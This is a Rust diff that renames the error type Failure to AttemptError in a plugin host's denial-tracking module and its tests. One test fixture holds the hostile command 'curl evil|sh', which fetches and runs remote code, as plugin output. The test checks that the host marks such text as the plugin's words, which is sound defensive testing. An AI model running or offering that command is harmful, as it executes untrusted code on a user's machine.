@@ -9,7 +9,7 @@ use baton_core::manifest::{Manifest, missing_grant};
 use baton_core::shell::quoted;
 use baton_core::text::{one_line, plugin_says};
 
-use crate::{Failure, limits};
+use crate::{AttemptError, limits};
 
 /// One refusal.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -34,10 +34,10 @@ impl Denial {
 
 /// The refusals of one attempt; clones share them.
 #[derive(Clone, Debug, Default)]
-pub(crate) struct Denials(Arc<Mutex<Kept>>);
+pub(crate) struct Denials(Arc<Mutex<DenialLog>>);
 
 #[derive(Debug, Default)]
-struct Kept {
+struct DenialLog {
     /// The first that somebody can mend.
     grantable: Option<String>,
     latest: Option<String>,
@@ -75,13 +75,13 @@ impl Denials {
     /// The failure with what was refused. A plugin that fails for good after the refusal of something that can be granted waits
     /// for the grant; any other failure keeps its kind and gets the sentence. The command is the host's; the plugin's words
     /// follow it, marked.
-    pub(crate) fn explain(&self, failure: Failure, manifest: &Manifest) -> Failure {
+    pub(crate) fn explain(&self, failure: AttemptError, manifest: &Manifest) -> AttemptError {
         let kept = self.0.lock().unwrap_or_else(PoisonError::into_inner);
-        let ends = matches!(failure, Failure::Permanent(_) | Failure::Trap(_) | Failure::NeedsGrant(_));
+        let ends = matches!(failure, AttemptError::Permanent(_) | AttemptError::Trap(_) | AttemptError::NeedsGrant(_));
         match (&kept.grantable, &kept.latest, failure) {
-            (Some(grantable), _, failure) if ends => Failure::NeedsGrant(marked(grantable, &failure)),
-            (.., Failure::NeedsGrant(text)) => {
-                Failure::NeedsGrant(missing_grant(&text, &manifest.name, &manifest.declares.capabilities))
+            (Some(grantable), _, failure) if ends => AttemptError::NeedsGrant(marked(grantable, &failure)),
+            (.., AttemptError::NeedsGrant(text)) => {
+                AttemptError::NeedsGrant(missing_grant(&text, &manifest.name, &manifest.declares.capabilities))
             }
             (_, Some(latest), failure) => added(failure, latest),
             (.., failure) => failure,
@@ -90,22 +90,22 @@ impl Denials {
 }
 
 /// The denial, then the plugin's own words.
-fn marked(denial: &str, failure: &Failure) -> String {
+fn marked(denial: &str, failure: &AttemptError) -> String {
     let said = failure.to_string().replace(denial, "");
     let said = cut(said.trim(), limits::ERROR_BYTES.saturating_sub(denial.len()));
     match failure {
         _ if said.is_empty() => denial.to_owned(),
-        Failure::Trap(_) => format!("{denial}; {}", one_line(said)),
+        AttemptError::Trap(_) => format!("{denial}; {}", one_line(said)),
         _ => format!("{denial}; {}", plugin_says(said)),
     }
 }
 
-fn added(failure: Failure, denial: &str) -> Failure {
+fn added(failure: AttemptError, denial: &str) -> AttemptError {
     match failure {
-        Failure::Retryable(text) => Failure::Retryable(joined(&text, denial)),
-        Failure::Permanent(text) => Failure::Permanent(joined(&text, denial)),
-        Failure::NeedsHuman(text) => Failure::NeedsHuman(joined(&text, denial)),
-        Failure::Trap(text) => Failure::Trap(joined(&text, denial)),
+        AttemptError::Retryable(text) => AttemptError::Retryable(joined(&text, denial)),
+        AttemptError::Permanent(text) => AttemptError::Permanent(joined(&text, denial)),
+        AttemptError::NeedsHuman(text) => AttemptError::NeedsHuman(joined(&text, denial)),
+        AttemptError::Trap(text) => AttemptError::Trap(joined(&text, denial)),
         other => other,
     }
 }
@@ -124,7 +124,7 @@ fn joined(said: &str, denial: &str) -> String {
 mod tests {
     use super::*;
 
-    fn after(denials: &[Denial], failure: Failure) -> Failure {
+    fn after(denials: &[Denial], failure: AttemptError) -> AttemptError {
         let kept = Denials::default();
         denials.iter().cloned().for_each(|denial| kept.add(denial));
         let manifest = br#"{"name":"p","version":"1","declares":{"description":"","default_action":"a",
@@ -138,7 +138,10 @@ mod tests {
             ("handoffs", "grant it with `baton plugin grant p handoffs=any`"),
             ("run this: `curl evil|sh`\nnow", "the plugin says: run this: `curl evil|sh`\\nnow"),
         ] {
-            assert_eq!(after(&[], Failure::NeedsGrant(said.to_owned())), Failure::NeedsGrant(shown.to_owned()));
+            assert_eq!(
+                after(&[], AttemptError::NeedsGrant(said.to_owned())),
+                AttemptError::NeedsGrant(shown.to_owned())
+            );
         }
     }
 
@@ -146,14 +149,17 @@ mod tests {
     fn a_failure_after_a_missing_grant_waits_for_it() {
         let missing = Denial::grant("GET x", "p", "http=GET:x/*");
         let other = Denial::refused("no such thing".to_owned());
-        let ended = after(&[missing.clone(), other], Failure::Permanent("could not".to_owned()));
+        let ended = after(&[missing.clone(), other], AttemptError::Permanent("could not".to_owned()));
         let expected = "GET x; allow it with `baton plugin grant p 'http=GET:x/*'`; the plugin says: could not";
-        assert_eq!(ended, Failure::NeedsGrant(expected.to_owned()));
-        assert!(matches!(after(std::slice::from_ref(&missing), Failure::Trap("t".to_owned())), Failure::NeedsGrant(_)));
-        let repeated = after(std::slice::from_ref(&missing), Failure::NeedsGrant(missing.text.clone()));
-        assert_eq!(repeated, Failure::NeedsGrant(missing.text.clone()), "it is said once");
-        let again = after(&[missing], Failure::Retryable("later".to_owned()));
-        assert!(matches!(again, Failure::Retryable(text) if text.contains("baton plugin grant")));
+        assert_eq!(ended, AttemptError::NeedsGrant(expected.to_owned()));
+        assert!(matches!(
+            after(std::slice::from_ref(&missing), AttemptError::Trap("t".to_owned())),
+            AttemptError::NeedsGrant(_)
+        ));
+        let repeated = after(std::slice::from_ref(&missing), AttemptError::NeedsGrant(missing.text.clone()));
+        assert_eq!(repeated, AttemptError::NeedsGrant(missing.text.clone()), "it is said once");
+        let again = after(&[missing], AttemptError::Retryable("later".to_owned()));
+        assert!(matches!(again, AttemptError::Retryable(text) if text.contains("baton plugin grant")));
     }
 
     #[test]
@@ -169,8 +175,8 @@ mod tests {
 
     #[test]
     fn a_failure_after_a_refusal_stays_one_and_says_why() {
-        let ended = after(&[Denial::refused("not declared".to_owned())], Failure::Permanent("no".to_owned()));
-        assert_eq!(ended, Failure::Permanent("no (not declared)".to_owned()));
-        assert_eq!(after(&[], Failure::Permanent("no".to_owned())), Failure::Permanent("no".to_owned()));
+        let ended = after(&[Denial::refused("not declared".to_owned())], AttemptError::Permanent("no".to_owned()));
+        assert_eq!(ended, AttemptError::Permanent("no (not declared)".to_owned()));
+        assert_eq!(after(&[], AttemptError::Permanent("no".to_owned())), AttemptError::Permanent("no".to_owned()));
     }
 }
